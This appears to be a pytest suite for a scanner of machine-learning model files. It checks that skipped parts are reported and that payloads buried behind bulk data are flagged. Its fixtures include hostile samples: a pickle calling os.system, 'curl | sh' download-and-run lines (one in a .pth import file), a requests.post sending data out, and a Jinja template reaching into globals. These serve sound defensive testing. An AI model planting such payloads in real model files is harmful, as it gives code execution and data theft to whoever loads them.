"""No limit of a reader is silent: what it skips is reported."""

from __future__ import annotations

import ast
import base64
import io
import json
import pickle
import re
import struct
import tarfile
from pathlib import Path

import pytest

from agents.checks.artifacts import scanning
from agents.checks.artifacts.containers import tars
from agents.checks.artifacts.dispatch import scan_source
from agents.checks.artifacts.formats import (
    checkpoint_tables,
    matlab,
    named_calls,
    notebooks,
    tensorflow,
    text_reader,
    xml_reader,
)
from agents.checks.artifacts.readers import protobuf, stored_data, trees
from agents.checks.artifacts.scanning import BytesSource
from agents.checks.artifacts.scanning import Scan as TheScan
from schemas.severity import Verdict
from tests.corpus.wire import field

CHECKS = Path(scanning.__file__).parent
HOSTILE = base64.b64encode(b"\x80\x04cos\nsystem\n(S'true'\ntR.").decode()
CODE = "__import__('os').system('true')"
WORDS = "somewhat/longish/word "
COMPUTED = "".join(f"{{% set x = 'a{n}' %}}" for n in range(40)) + "{% set x = '_globals__' %}"


def scanned(name, raw):
    return scan_source(name, BytesSource(raw))


def record(raw):
    return struct.pack("<Q", len(raw)) + bytes(4) + raw + bytes(4)


def matrix(name):
    return struct.pack("<5i", 0, 1, 1, 0, len(name) + 1) + name.encode() + b"\0" + bytes(8)


def tar_of(count):
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for number in range(count):
            archive.addfile(tarfile.TarInfo(f"{number}.txt"))
    return packed.getvalue()


def graph_of(*texts):
    """Return a frozen graph of one constant, whose texts these are."""
    tensor = field(1, 7) + b"".join(field(8, text.encode()) for text in texts)
    entry = field(1, b"value") + field(2, field(8, tensor))
    node = field(1, b"a") + field(2, b"Const") + field(5, entry)
    return field(1, node) * 2


def notebook_of(*sources):
    cells = [{"cell_type": "code", "source": source, "outputs": []} for source in sources]
    return json.dumps({"nbformat": 4, "cells": cells, "metadata": {}}).encode()


def xgboost_of(count):
    tree = {"left_children": [-1], "right_children": [-1], "split_indices": [0]}
    model = {"model": {"trees": [tree] * count}}
    learner = {"gradient_booster": model, "learner_model_param": {"num_feature": "1"}}
    return json.dumps({"learner": learner, "version": [2, 0, 0]}).encode()


LEFT_OUT = {
    "records": (checkpoint_tables, "MAX_RECORDS", "a.tfrecord", record(b"x" * 9) * 4),
    "variables": (matlab, "MAX_ELEMENTS", "a.mat", matrix("x") * 4),
    "members-tar": (tars, "MAX_MEMBERS", "a.tar", tar_of(4)),
    "cells": (notebooks, "MAX_CELLS", "a.ipynb", notebook_of("1", "2", "3", "4")),
    "trees": (trees, "MAX_TREES", "model.json", xgboost_of(4)),
    "texts-of-a-graph": (tensorflow, "MAX_STRING", "a.pb", graph_of("abcdefghij")),
    "texts-of-a-message": (protobuf, "MAX_KEPT", "a.pb", graph_of("abcdefghij")),
    "documents-of-text": (text_reader, "MAX_TEXT", "requirements.txt", b"numpy\n"),
    "code-of-a-node": (
        named_calls, "MAX_CODE", "workflow.json",
        b'{"1": {"class_type": "ExecutePython", "inputs": {"code": "import os"}}}',
    ),
    "elements-of-xml": (xml_reader, "MAX_TEXT", "a.xml", b"<a>" + b"some text, " * 4 + b"</a>"),
}  # fmt: skip
"""By what is left out: where the limit is, set to 3, and a file that has more."""


@pytest.mark.parametrize(("module", "limit", "name", "raw"), LEFT_OUT.values(), ids=LEFT_OUT)
def test_parts_beyond_a_limit_are_reported(module, limit, name, raw, monkeypatch):
    assert scanned(name, raw).verdict is not Verdict.INCOMPLETE
    monkeypatch.setattr(module, limit, 3)
    report = scanned(name, raw)
    assert report.verdict is Verdict.INCOMPLETE
    assert report.reasons


def test_decoys_do_not_use_up_the_search_for_what_hides(monkeypatch):
    monkeypatch.setattr(stored_data, "MAX_TRIALS", 3)
    decoys = b"\x80\x04K\x01.--" * 5
    report = scanned("weights.npy", npy(decoys))
    assert report.verdict is Verdict.INCOMPLETE
    assert scanned("weights.npy", npy(decoys[:14])).verdict is Verdict.CLEAN


def npy(raw):
    raw += bytes(-len(raw) % 8)
    head = b"{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % (len(raw) // 8)
    head += b" " * (53 - len(head) % 64 + 64) + b"\n"
    head += b" " * (-(len(head) + 10) % 64)
    return b"\x93NUMPY\x01\0" + struct.pack("<H", len(head)) + head + raw


READ = {
    "the-201st-text-of-a-tensor": ("a.pb", graph_of(*["abcdefghij"] * 300, CODE)),
    "the-17th-encoded-run": ("config.json", json.dumps({"a": WORDS * 30 + HOSTILE}).encode()),
    "a-command-in-a-long-text": (
        "config.json", json.dumps({"a": "x\n" * 4000 + "curl -s 203.0.113.9/a | sh"}).encode(),
    ),
    "a-long-text-of-json": (
        "config.json", json.dumps({"a": "x" * 70_000 + " os.system('true')"}).encode(),
    ),
    "a-long-text-of-xml": (
        "a.pmml",
        b"<PMML><Extension>" + b"x " * 70_000 + HOSTILE.encode() + b"</Extension></PMML>",
    ),
    "the-1001st-line-of-a-site-file": (
        "a.pth", b"# a\n" * 1500 + b"import os; os.system('curl -s http://203.0.113.9/a | sh')\n",
    ),
    "the-1001st-argument": (
        "a.yaml",
        b"_target_: torch.nn.Linear\nhooks:\n" + b"- a\n" * 1500 + b"- os.system\n",
    ),
    "the-13th-function-called-on-import": (
        "modeling_x.py",
        b"import requests\n"
        + b"".join(b"def f%d():\n    f%d()\n" % (n, n + 1) for n in range(12))
        + b"def f12():\n    requests.post('http://203.0.113.9', data=b'a')\nf0()\n",
    ),
    "the-last-of-many-parts": ("model.pt", pickle.dumps([[n] for n in range(20_000)])[:-1]
        + b"0cos\nsystem\n(S'true'\ntR."),
}  # fmt: skip
"""Files whose payload comes behind more than readers once looked at."""


@pytest.mark.parametrize(("name", "raw"), READ.values(), ids=READ)
def test_payload_behind_much_other_data_is_found(name, raw):
    assert scanned(name, raw).verdict is Verdict.MALICIOUS


def test_template_name_beyond_the_limit_is_reported():
    raw = (COMPUTED + "{{ y['_' ~ x] }}").encode()
    assert scanned("chat_template.jinja", raw).verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS)


def test_many_minor_findings_hide_no_severe_one(monkeypatch):
    monkeypatch.setattr(scanning, "MAX_DETECTIONS", 3)
    scan = TheScan("a", lambda *_: None)
    for number in range(5):
        scan.report("TW-PICKLE-PRESENT", "the file unpickles", key=number)
    scan.report("TW-MODEL-EXECUTABLE", "a program", key="x")
    assert "TW-MODEL-EXECUTABLE" in {found.rule_id for found in scan.detections}
    assert (len(scan.detections), scan.dropped) == (3, 3)


BOUNDED = {
    "containers/tars.py: range(MAX_MEMBERS)": "whether a zip is a member: else it is read as a zip",
    "formats/targets.py: range(MAX_INTERPOLATED)": "the loop is followed by a reason",
    "formats/xml_reader.py: attributes.get('shape', '').split(',')[:64]": "a tensor has few sides",
    "formats/template_triggers.py: range(_ROUNDS)": "names set from names, as a person writes",
    "formats/matlab.py: range(MAX_ELEMENTS)": "the loop is followed by a reason",
    "formats/checkpoint_tables.py: range(MAX_RECORDS)": "the loop is followed by a reason",
    "pickle/carried_code.py: range(MAX_VALUES)": "the loop is followed by a fault",
    "pickle/expressions.py: range(_MOST)": "the loop is followed by a fault",
    "pickle/particular_calls.py: range(MAX_PARTS)": "the loop is followed by a fault",
    "pickle/observer.py: all_found[:MAX_NAMES]": "evidence; the finding counts them",
    "pickle/symbols.py: value[:6]": "how a value is shown",
    "python/call_judgements.py: call.arguments[:1]": "the argument that is a path",
    "python/call_judgements.py: call.arguments[:2]": "the arguments that are paths",
    "python/faults.py: range(MAX_ROUNDS)": "the loop ends with all functions counted",
    "python/flow_judgements.py: call.arguments[:3]": "an argument that says what the call does",
    "python/flow_judgements.py: call.node.args[:1]": "what is looked up, written or started",
    "python/flow_judgements.py: call.node.args[:2]": "a program, and what it is given first",
    "python/flow_judgements.py: node.elts[:8]": "a program, and what it is given first",
    "python/flows.py: node.args[:1]": "the folder that is walked",
    "python/flows.py: node.args[:8]": "parts of one path: its begin says where it leads",
    "python/flows.py: node.values[:MAX_PATH]": "parts of one path: its begin says where it leads",
    "python/flows.py: range(MAX_VALUE)": "a value of more parts is a table of data",
    "python/module_facts.py: itertools.islice(ast.walk(value), MAX_VALUE)": "where a library lies",
    "readers/stored_data.py: matches[:most]": "what is left is said",
}
"""Loops over a part of something, and why nothing is left out in silence."""


def test_every_loop_over_a_part_of_something_is_known():
    found = set()
    for path in sorted(CHECKS.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.For | ast.comprehension):
                found |= {f"{path.relative_to(CHECKS)}: {cut}" for cut in cuts(node.iter)}
    assert found == set(BOUNDED)


def cuts(iterated):
    """Yield what takes the first few of something, by a limit, in what a loop goes over."""
    for node in ast.walk(iterated):
        shown = ast.unparse(node)
        if isinstance(node, ast.Subscript) and isinstance(node.slice, ast.Slice):
            upper = node.slice.upper
            limited = isinstance(upper, ast.Constant) or (upper and ast.unparse(upper).isupper())
            if node.slice.lower is None and (limited or shown.endswith("[:most]")):
                yield shown
        elif isinstance(node, ast.Call):
            limited = re.fullmatch(r"range\([A-Z_]+\)", shown)
            if limited or ".islice(" in shown[:18]:
                yield shown
